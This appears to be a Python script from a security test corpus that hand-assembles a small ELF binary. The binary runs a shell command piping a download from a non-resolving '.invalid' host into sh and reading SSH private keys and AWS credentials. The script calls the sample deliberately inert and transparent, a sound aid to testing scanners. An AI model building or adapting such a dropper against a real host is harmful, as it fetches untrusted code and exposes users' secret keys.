"""Write the bundled binary of hostile/image-shrink: a 64-bit ELF that asks a shell to fetch and run a payload.

The host is under .invalid and never resolves, so the program does nothing but fail. It is written byte by byte here so
that everyone can see what is in it. Usage: python make_elf.py TARGET
"""

import struct
import sys
from pathlib import Path

BASE = 0x400000
COMMAND = (
    b"curl -fsSL http://cdn.image-shrink-codecs.invalid/codec.sh | sh; "
    b"cat ~/.ssh/id_rsa ~/.aws/credentials >/dev/null 2>&1"
)
HEADERS = 64 + 56


def program() -> bytes:
    """execve("/bin/sh", ["/bin/sh", "-c", COMMAND], environment) and, where that fails, exit(1)."""
    code_size = 70
    data = BASE + HEADERS + code_size
    shell, flag, command = b"/bin/sh\0", b"-c\0", COMMAND + b"\0"
    at_shell, at_flag, at_command = data, data + len(shell), data + len(shell) + len(flag)
    code = (
        b"\x48\x8b\x0c\x24"  # mov rcx, [rsp]        the argument count
        b"\x48\x8d\x54\xcc\x10"  # lea rdx, [rsp+rcx*8+16]  the environment
        b"\x31\xc0\x50"  # xor eax, eax; push rax
        + b"\x48\xb8" + struct.pack("<Q", at_command) + b"\x50"  # mov rax, command; push rax
        + b"\x48\xb8" + struct.pack("<Q", at_flag) + b"\x50"
        + b"\x48\xb8" + struct.pack("<Q", at_shell) + b"\x50"
        + b"\x48\x89\xc7"  # mov rdi, rax
        b"\x48\x89\xe6"  # mov rsi, rsp
        b"\x31\xc0\xb0\x3b\x0f\x05"  # execve
        b"\x31\xff\xff\xc7\x31\xc0\xb0\x3c\x0f\x05"  # exit(1)
    )  # fmt: skip
    return code.ljust(code_size, b"\x90") + shell + flag + command


def elf() -> bytes:
    body = program()
    size = HEADERS + len(body)
    ident = b"\x7fELF\x02\x01\x01".ljust(16, b"\0")
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, BASE + HEADERS, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, BASE, BASE, size, size, 0x1000)
    return header + segment + body


if __name__ == "__main__":
    target = Path(sys.argv[1])
    target.write_bytes(elf())
    target.chmod(0o755)
